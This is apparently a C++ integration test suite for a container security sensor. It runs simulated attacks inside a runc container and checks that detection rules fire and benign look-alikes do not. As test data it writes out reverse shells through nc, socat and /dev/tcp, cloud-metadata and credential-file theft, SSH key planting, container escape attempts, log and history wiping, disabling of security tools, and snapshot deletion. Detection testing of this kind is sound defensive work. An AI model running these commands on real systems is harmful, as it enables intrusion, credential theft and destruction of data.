// The shipped rules on the real kernel: one real runc container makes the
// syscalls each attack makes (renamed binaries and failed attempts
// included), and every rule a container can set off must give a verdict
// with the container's id. Benign look-alikes run in the same container and
// must give none. (fileless_exec and shell_spawned_by_network_tool need a
// memfd loader or a forking netcat, which busybox lacks: unit-tested only.)
#include <sys/stat.h>

#include <fstream>
#include <set>

#include "harness.h"

using namespace crowsnest;
using namespace crowsnest::test;

namespace {

// Whether the container gives a verdict of `rule` whose output holds `text`, within 5 s.
bool verdict_with(SensorProcess &sensor, const std::string &id, const std::string &rule, const std::string &text) {
    INFO(rule << ": " << text);
    return sensor.wait_verdict(
        [&](const v1::Verdict &v) {
            return v.rule() == rule && v.container().id() == id && v.output().find(text) != std::string::npos;
        },
        nullptr, std::chrono::seconds(5));
}

}  // namespace

TEST_CASE("shipped rules: each fires from real syscalls in a container, benign look-alikes do not",
          "[integration][rules]") {
    char dir[] = "/tmp/crowsnest-rules-XXXXXX";
    REQUIRE(mkdtemp(dir));
    const std::string host_dir = dir, logs = host_dir + "/containers", feed = host_dir + "/feed.yaml";
    REQUIRE(run_shell("mkdir -p " + logs + "/abc && echo '{\"log\":\"token=x\"}' > " + logs + "/abc/abc-json.log") == 0);
    // a user file appends a pool address to the shipped (empty) list
    std::ofstream(feed) << "- list: miner_pool_networks\n  items: [127.0.0.2/32]\n  append: true\n";

    SensorProcess sensor;
    START_SENSOR(sensor, "--rules", CROWSNEST_DEFAULT_RULES, "--rules", feed);
    const std::string id = random_container_id();
    RuncContainer c;
    START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id),
                                      .extra_links = {"socat", "nsenter", "mount"},
                                      .rw_binds = {{logs, "/host/var/lib/docker/containers"}}}));
    const std::string closed = std::to_string(unused_loopback_port());

    // benign look-alikes first, each marked "nearmiss" in its arguments
    c.run({"/bin/ls", "-a", "/tmp", "/nearmiss"});
    c.run({"/bin/cat", "/etc/passwd", "/proc/sys/vm/nr_hugepages", "/nearmiss"});
    c.run({"/bin/grep", "-e", "nearmiss", "/etc/passwd"});
    c.run({"/bin/sh", "-c", "echo nearmiss </dev/null; test -e /dev/tcp/127.0.0.1/80"});
    c.run({"/bin/mount", "-t", "tmpfs", "nearmiss", "/mnt"});
    c.exec("cat /host/var/lib/docker/containers/abc/nearmiss.json; true");

    // miner: by arguments, whatever the program is called
    c.run({"/bin/true", "-o", "stratum+tcp://pool.example.com:3333"});
    c.run({"/bin/true", "-o", "pool.supportxmr.com:443"});
    c.run({"/bin/true", "--donate-level=1"});
    c.run({"/bin/true", "-a", "rx/0"});
    c.exec("echo 1 > /dev/cpu/0/msr; echo 128 > /proc/sys/vm/nr_hugepages; true");
    c.exec("nc -w 1 127.0.0.1 3333 </dev/null; nc -w 1 127.0.0.2 " + closed + " </dev/null; true");
    // scanner: a sweep of one port over 40 loopback addresses, reverse shells
    c.exec("for i in $(seq 1 40); do nc -w 1 127.0.0.$i " + closed + " </dev/null; done; true");
    c.run({"/bin/nc", "-e", "/bin/sh", "127.0.0.1", closed});
    c.run({"/bin/socat", "TCP:127.0.0.1:" + closed, "EXEC:/bin/sh"});
    c.run({"/bin/sh", "-c", "sh -i >& /dev/tcp/127.0.0.1/" + closed + " 0>&1; true"});
    // host mounts and escapes, as attempts that fail
    c.exec("cat /host/var/lib/docker/containers/abc/abc-json.log; true");
    c.exec("echo /tmp/x > /sys/fs/cgroup/release_agent; echo '|/tmp/x' > /proc/sys/kernel/core_pattern; true");
    c.run({"/bin/nsenter", "-t", "1", "-m", "sh"});
    c.run({"/bin/mount", "/dev/sda1", "/mnt"});
    c.exec("cat /run/containerd/containerd.sock; true");
    // drift: a copy of a program run from /tmp
    c.exec("cp /bin/busybox /tmp/kworker && /tmp/kworker true; true");

    const std::set<std::string> expected = {
        "crypto_miner_stratum_args",   "crypto_miner_pool_domain_args", "crypto_miner_flags",
        "crypto_miner_algorithm",      "crypto_miner_msr_write_attempt",        "hugepages_write_from_container",
        "mining_pool_port_connect",    "mining_pool_address_connect",   "network_sweep",
        "network_tool_in_container",   "reverse_shell_netcat",          "reverse_shell_socat",
        "reverse_shell_dev_tcp",       "container_logs_read_from_container", "cgroup_release_agent_write",
        "core_pattern_write",          "nsenter_in_container",          "host_disk_mount_in_container",
        "runtime_socket_opened",       "drift_exec_from_writable_dir",
    };
    for (const auto &rule : expected) {
        INFO(rule);
        CHECK(sensor.wait_verdict([&](const v1::Verdict &v) { return v.rule() == rule && v.container().id() == id; },
                                  nullptr, std::chrono::seconds(5)));
    }
    for (const auto &v : sensor.verdicts()) {
        if (v.container().id() != id) continue;  // another test run may share the machine
        CHECK(v.cgroup_id() == c.cgroup_id());
        std::string args;
        for (const auto &a : v.process().args()) args += a + " ";
        INFO(v.rule() << ": " << args);
        CHECK(args.find("nearmiss") == std::string::npos);
        CHECK(v.event().path().find("nearmiss") == std::string::npos);
    }
    run_shell("rm -rf " + host_dir);
}

// Users' SSH keys are watched through a wildcard (/home/*/.ssh/), expanded
// on the host when the sensor starts and at every refresh.
TEST_CASE("shipped rules: a user's SSH key on the host read through a host-root mount", "[integration][rules]") {
    const std::string user = "cn-" + random_container_id().substr(0, 8), home = "/home/" + user;
    REQUIRE(run_shell("mkdir -p " + home + "/.ssh && echo KEY > " + home + "/.ssh/id_ed25519") == 0);
    SensorProcess sensor;
    START_SENSOR(sensor);
    const std::string id = random_container_id();
    RuncContainer c;
    START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id), .mount_host_root = true}));
    c.exec("cd /host/home/" + user + " && cat .ssh/id_ed25519 >/dev/null");

    v1::Verdict v;
    CHECK(sensor.wait_verdict([&](const v1::Verdict &m) {
        return m.rule() == "host_secret_read_from_container" && m.container().id() == id;
    }, &v));
    CHECK(v.event().host_path() == home + "/.ssh/id_ed25519");
    CHECK(v.event().path() == ".ssh/id_ed25519");
    run_shell("rm -rf " + home);
}

// Credential access, persistence, evasion and injection inside the container itself:
// a shell in a container with its own network namespace (the metadata
// address is unreachable there, which is enough: the attempt is the sign).
TEST_CASE("shipped rules: credentials, metadata, planted keys, cleared history, injection and modules in a real container",
          "[integration][rules]") {
    SensorProcess sensor;
    START_SENSOR(sensor);  // the shipped rules
    const std::string id = random_container_id();
    RuncContainer c;
    START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id), .host_network = false,
                                      .extra_links = {"base64", "head"}}));
    const std::string sa = c.bundle() + "/rootfs/var/run/secrets/kubernetes.io/serviceaccount";
    REQUIRE(run_shell("mkdir -p " + sa + " " + c.bundle() + "/rootfs/root/.aws && echo eyJhbGciOi > " + sa +
                      "/token && echo 'root:$6$x:19000::::::' > " + c.bundle() + "/rootfs/etc/shadow && printf "
                      "'[default]\\naws_secret_access_key=x\\n' > " + c.bundle() + "/rootfs/root/.aws/credentials") == 0);

    // benign look-alikes: the workload's files with the same names, the shell saving its history
    c.exec("cat /etc/passwd; echo x > /tmp/config; cat /tmp/config; echo ls >> /root/.ash_history; true");
    // the attack, through a relative path and a busybox applet too
    c.exec("cat /var/run/secrets/kubernetes.io/serviceaccount/token; true");
    c.exec("cd /etc && base64 shadow; head -1 /root/.aws/credentials; true");
    c.exec("printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n' | nc -w 1 169.254.169.254 80; true");
    c.exec("mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys; true");
    c.exec("echo /tmp/x.so > /etc/ld.so.preload; true");
    c.exec(": > /root/.ash_history; ln -sf /dev/null /root/.sh_history; true");
    c.exec("cp /bin/busybox /tmp/sh2 && chmod u+s /tmp/sh2; true");
    // injection and a kernel module, by a program named like a health check
    REQUIRE(run_shell("cp " SYSCALL_PROBE_BINARY " " + c.bundle() + "/rootfs/bin/healthcheck") == 0);
    c.run({"/bin/healthcheck", "ptrace-attach"});
    c.run({"/bin/healthcheck", "modules"});  // refused: runc's default capabilities
    c.run({"/bin/healthcheck", "setns", "/proc/1/ns/net"});  // refused too

    auto wait = [&](const std::string &rule, const std::string &text) { return verdict_with(sensor, id, rule, text); };
    CHECK(wait("credential_read_by_tool_in_container",
               "Credential /var/run/secrets/kubernetes.io/serviceaccount/token read by cat"));
    CHECK(wait("credential_read_by_tool_in_container", "Credential /etc/shadow read by base64"));
    CHECK(wait("credential_read_by_tool_in_container", "Credential /root/.aws/credentials read by head"));
    CHECK(wait("cloud_metadata_fetched_by_tool", "Cloud metadata service 169.254.169.254 contacted by nc"));
    CHECK(wait("ssh_authorized_keys_written_in_container", "/root/.ssh/authorized_keys"));
    CHECK(wait("ld_preload_written_in_container", "ld.so.preload opened for writing in container " + id));
    CHECK(wait("shell_history_emptied_in_container", "Shell history /root/.ash_history emptied"));
    CHECK(wait("shell_history_linked_to_null_in_container", "Shell history /root/.sh_history linked to /dev/null"));
    CHECK(wait("setuid_bit_set_in_container", "/tmp/sh2"));
    CHECK(wait("ptrace_attach_in_container", "ptrace PTRACE_ATTACH of pid"));
    CHECK(wait("kernel_module_load_from_container", "by healthcheck (healthcheck modules)"));
    CHECK(wait("namespace_joined_from_container", "by healthcheck (healthcheck setns /proc/1/ns/net), EPERM"));
    for (const auto &v : sensor.verdicts()) {
        if (v.container().id() != id) continue;
        INFO(v.rule() << ": " << v.output());
        CHECK(v.cgroup_id() == c.cgroup_id());
        CHECK(v.output().find("/tmp/config") == std::string::npos);
        CHECK(v.output().find("/etc/passwd") == std::string::npos);
        // every exec into the container is runc's setns: only the probe's may give a verdict
        if (v.rule() == "namespace_joined_from_container") CHECK(v.process().comm() == "healthcheck");
    }
}

TEST_CASE("shipped rules: container discovery by a script's busybox applets through relative paths, not by a "
          "runtime's start",
          "[integration][rules]") {
    SensorProcess sensor;
    START_SENSOR(sensor);
    const std::string quiet_id = random_container_id(), probed_id = random_container_id();
    RuncContainer quiet, probed;
    START_CONTAINER(quiet, (ContainerSpec{.cgroups_path = docker_path(quiet_id)}));
    START_CONTAINER(probed, (ContainerSpec{.cgroups_path = docker_path(probed_id)}));

    // what a JVM or a Go runtime reads at start, and one look at init's cgroup
    REQUIRE(quiet.exec("cat /proc/self/cgroup /proc/self/mountinfo /proc/self/status /proc/1/cgroup "
                       "/proc/1/cgroup >/dev/null") == 0);
    // an enumeration script: init's mounts and environment, the core_pattern
    // hook and the user-namespace limit, relative to /proc
    REQUIRE(probed.exec("cd /proc && cat 1/mountinfo 1/environ sys/kernel/core_pattern sys/user/max_user_namespaces "
                        ">/dev/null") == 0);

    v1::Verdict v;
    REQUIRE(sensor.wait_verdict(
        [&](const v1::Verdict &m) { return m.rule() == "container_environment_probed" && m.container().id() == probed_id; },
        &v));
    CHECK(v.category() == "recon");
    CHECK(v.cgroup_id() == probed.cgroup_id());
    CHECK(v.process().comm() == "cat");
    CHECK(v.output().find("read 3 distinct confinement files within 60 s, the last /proc/") != std::string::npos);
    int probes = 0;
    for (const auto &m : sensor.verdicts()) {
        INFO(m.rule() << ": " << m.output());
        CHECK(m.container().id() != quiet_id);
        probes += m.container().id() == probed_id && m.rule() == "container_environment_probed";
    }
    CHECK(probes == 1);
}

TEST_CASE("shipped rules: secret searches, sensitive links, cleared and deleted logs and history, admin tools, "
          "wipes, debugfs and planted programs in a real container",
          "[integration][rules]") {
    SensorProcess sensor;
    START_SENSOR(sensor);
    const std::string id = random_container_id();
    RuncContainer c;
    START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id), .extra_links = {"find", "grep", "shred"}}));
    // busybox under the names of tools the image would not have
    const std::string root = c.bundle() + "/rootfs";
    REQUIRE(run_shell("mkdir -p " + root + "/usr/local/sbin " + root + "/var/log && cp " + root + "/bin/busybox " + root +
                      "/usr/local/sbin/kubectl && cp " + root + "/bin/busybox " + root + "/usr/local/sbin/debugfs && "
                      "echo old > " + root + "/var/log/auth.log") == 0);

    // near misses: an ordinary search, the app's own log, a link to a zone file, a program copied to /tmp
    c.exec("find /etc -name '*.conf' >/dev/null; echo start > /var/log/app.log; ln -s /etc/hostname /tmp/zone; "
           "cp /bin/busybox /tmp/tool; true");
    // the attack: busybox applets, a relative path, tools under borrowed names
    c.exec("find / -name 'id_rsa*' 2>/dev/null; grep -rl 'BEGIN OPENSSH PRIVATE' /etc 2>/dev/null; true");
    c.exec("cd /tmp && ln -s /etc/shadow notes.txt; true");
    c.exec("cd /var/log && : > auth.log; true");
    c.exec("/usr/local/sbin/kubectl get secrets -A; /usr/local/sbin/debugfs -R 'cat /etc/shadow' /dev/sda1; true");
    c.exec("echo x > /tmp/dump && shred -u /tmp/dump; true");
    c.exec("cp /bin/busybox /bin/ls2; true");
    c.exec("mkdir -p /root && echo ls > /root/.ash_history; cd /root && rm .ash_history; echo x > /var/log/wtmp; rm /var/log/wtmp; true");

    auto wait = [&](const std::string &rule, const std::string &text) { return verdict_with(sensor, id, rule, text); };
    // busybox's sh runs find in its own fork, with no exec to see; grep is exec'd
    CHECK(wait("secret_search_in_container", "grep -rl BEGIN OPENSSH PRIVATE /etc"));
    CHECK(wait("sensitive_file_symlinked_in_container", "Link to /etc/shadow made as notes.txt"));
    CHECK(wait("system_log_cleared_in_container", "System log /var/log/auth.log emptied"));
    CHECK(wait("container_admin_tool_in_container", "/usr/local/sbin/kubectl (kubectl get secrets -A)"));
    CHECK(wait("debugfs_on_device_in_container", "debugfs -R cat /etc/shadow /dev/sda1"));
    CHECK(wait("data_wipe_tool_in_container", "shred -u /tmp/dump"));
    CHECK(wait("binary_dir_written_in_container", "/bin/ls2 by cp"));
    CHECK(wait("shell_history_deleted_in_container", "path=.ash_history"));
    CHECK(wait("system_log_deleted_in_container", "path=/var/log/wtmp"));
    for (const auto &v : sensor.verdicts()) {
        if (v.container().id() != id) continue;
        INFO(v.rule() << ": " << v.output());
        CHECK(v.cgroup_id() == c.cgroup_id());
        CHECK(v.output().find("*.conf") == std::string::npos);
        CHECK(v.output().find("app.log") == std::string::npos);
        CHECK(v.output().find("/etc/hostname") == std::string::npos);
        CHECK(v.output().find("/tmp/tool") == std::string::npos);
    }
}

TEST_CASE("shipped rules: the Kubernetes API reached by hand, security tools stopped and snapshots removed in a "
          "real container",
          "[integration][rules]") {
    SensorProcess sensor;
    START_SENSOR(sensor, "--verdict-window", "0");  // wget's and nc's verdicts are alike: not aggregated
    const std::string id = random_container_id();
    RuncContainer c;
    START_CONTAINER(c, (ContainerSpec{.cgroups_path = docker_path(id), .extra_links = {"pkill"}}));
    // tools the image would not have, as busybox under their names; an
    // operator's client, as a program of its own
    const std::string root = c.bundle() + "/rootfs";
    REQUIRE(run_shell("mkdir -p " + root + "/usr/sbin && for t in setenforce auditctl lvremove zfs; do cp " + root +
                      "/bin/busybox " + root + "/usr/sbin/$t; done && cp " TCP_PROBE_BINARY " " + root + "/manager") ==
            0);

    // near misses: the workload's client reaching the API server's port, a
    // reload of the app's own server, a storage listing
    c.exec("/manager 127.0.0.1 6443 6443; pkill -HUP nginx; /usr/sbin/zfs list -t snapshot; true");
    // the attack: busybox applets by their names, in busybox's multi-call
    // form (`busybox killall`: a bare killall would run inside the shell,
    // with no exec to see) and under borrowed names
    c.exec("wget -q -O- http://127.0.0.1:6443/api/v1/secrets; echo | nc 127.0.0.1 6443; true");
    c.exec("busybox killall -9 tetragon; pkill falco; /usr/sbin/setenforce 0; /usr/sbin/auditctl -D; true");
    c.exec("/usr/sbin/lvremove -f vg0/backup-snap; /usr/sbin/zfs destroy -r tank/data@daily; true");

    auto wait = [&](const std::string &rule, const std::string &text) { return verdict_with(sensor, id, rule, text); };
    CHECK(wait("k8s_api_contacted_by_tool", "Kubernetes API 127.0.0.1:6443 contacted by wget"));
    CHECK(wait("k8s_api_contacted_by_tool", "contacted by nc (nc 127.0.0.1 6443)"));
    CHECK(wait("security_tool_disabled_in_container", "killall -9 tetragon"));
    CHECK(wait("security_tool_disabled_in_container", "pkill falco"));
    CHECK(wait("security_tool_disabled_in_container", "setenforce 0"));
    CHECK(wait("security_tool_disabled_in_container", "auditctl -D"));
    CHECK(wait("recovery_inhibited_in_container", "lvremove -f vg0/backup-snap"));
    CHECK(wait("recovery_inhibited_in_container", "zfs destroy -r tank/data@daily"));
    for (const auto &v : sensor.verdicts()) {
        if (v.container().id() != id) continue;
        INFO(v.rule() << ": " << v.output());
        CHECK(v.cgroup_id() == c.cgroup_id());
        CHECK(v.output().find("manager") == std::string::npos);
        CHECK(v.output().find("nginx") == std::string::npos);
        CHECK(v.output().find("zfs list") == std::string::npos);
    }
}
